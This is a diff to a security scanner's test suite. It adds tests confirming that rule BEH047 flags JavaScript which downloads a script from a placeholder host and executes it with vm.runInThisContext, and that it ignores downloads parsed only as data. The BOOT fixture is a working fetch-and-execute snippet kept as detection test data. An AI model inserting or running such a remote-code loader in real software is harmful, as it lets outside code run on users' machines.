@@ -366,3 +366,24 @@ def test_secrets_looked_after_near_a_send_are_not_sent():
         "goes the summary only; rotate every key that appeared",
     )
     assert "BEH001" not in {f.rule for f in SCANNER.scan_text(looked_after).findings}
+
+
+BOOT = (
+    'const https = require("https");\nconst vm = require("vm");\n'
+    'https.get("https://presets.example.invalid/boot.js", (res) => {\n  let src = "";\n'
+    '  res.on("data", (c) => (src += c));\n  res.on("end", () => vm.runInThisContext(src));\n'
+    "});\n"
+)
+
+
+def test_code_downloaded_and_run_as_code_is_dangerous():
+    findings = SCANNER.scan_text(BOOT, "boot.js").findings
+    assert "BEH047" in {f.rule for f in findings}
+    assert verdict_for(findings) is Verdict.DANGEROUS
+
+
+def test_a_download_parsed_as_data_or_an_exec_command_is_not():
+    parsed = BOOT.replace("vm.runInThisContext(src)", "console.log(JSON.parse(src).version)")
+    assert "BEH047" not in {f.rule for f in SCANNER.scan_text(parsed, "boot.js").findings}
+    docker = "curl -fsSL https://x.example.invalid/data.json -o d.json\ndocker exec web ls\n"
+    assert "BEH047" not in {f.rule for f in SCANNER.scan_text(docker, "x.sh").findings}
